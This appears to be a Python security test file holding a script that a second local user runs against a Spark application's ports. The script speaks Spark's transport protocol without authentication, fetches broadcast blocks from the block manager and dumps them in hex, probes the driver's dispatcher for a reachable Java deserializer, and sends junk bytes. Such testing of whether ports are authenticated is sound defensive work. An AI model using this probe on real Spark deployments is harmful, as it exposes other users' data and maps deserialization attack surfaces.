"""Bytes that another user of the machine sends to the ports of a Spark: a program for `other_user.as_other`.

It speaks Spark's transport protocol without a secret: frames of a length, a type and a body. It asks the
block manager for the blocks of broadcasts, and has the driver's dispatcher read an object. It prints the
blocks in hexadecimal, and `deserializer` if its bytes came that far.
"""

STRANGER = r"""
import re, socket, struct, sys

CHUNK_REQUEST, CHUNK, FAILED_CHUNK, RPC, RESPONSE, FAILURE = 0, 1, 2, 3, 4, 5

def text(value):
    return struct.pack(">i", len(value)) + value.encode()

def send(stream, kind, body):
    stream.write(struct.pack(">qb", 9 + len(body), kind) + body)
    stream.flush()

def receive(stream):
    head = stream.read(9)
    if len(head) < 9:
        return None, b""
    length, kind = struct.unpack(">qb", head)
    if not 9 <= length < 1 << 30:
        return None, b""
    if kind == CHUNK:  # its header is followed by the block
        stream.read(12)
        return kind, stream.read(length - 9 - 12)
    body = stream.read(length - 9)
    return kind, body

def call(stream, body):
    send(stream, RPC, struct.pack(">qi", 1, len(body)) + body)
    return receive(stream)

def blocks(port, names):
    for name in names:
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            stream = connection.makefile("rwb")
            wanted = text("app") + text("exec") + struct.pack(">i", 1) + text(name)
            kind, answer = call(stream, b"\0" + wanted)
            if kind != RESPONSE:
                continue
            body = answer[-13:]  # the type of a stream handle, its id and the number of chunks
            number, chunks = struct.unpack(">qi", body[1:])
            for chunk in range(chunks):
                send(stream, CHUNK_REQUEST, struct.pack(">qi", number, chunk))
                kind, block = receive(stream)
                if kind == CHUNK:
                    print("block", name, block.hex())

def dispatch(port):
    address = b"\1" + struct.pack(">H", 9) + b"127.0.0.1" + struct.pack(">i", port)
    message = b"\0" + address + struct.pack(">H", 17) + b"endpoint-verifier" + b"no object"
    with socket.create_connection(("127.0.0.1", port), 5) as connection:
        kind, answer = call(connection.makefile("rwb"), message)
        if b"StreamCorruptedException" in answer or b"invalid stream header" in answer:
            print("deserializer", port)

def talk(port):
    for junk in (b"", b"\0\0\0\0", b"GET / HTTP/1.0\r\n\r\n", b"\xff" * 70):
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(junk)

for port in map(int, sys.argv[1:]):
    for attack in (talk, dispatch, lambda port: blocks(port, [f"broadcast_{n}_piece0" for n in range(8)])):
        try:
            attack(port)
        except (OSError, struct.error):
            pass
"""
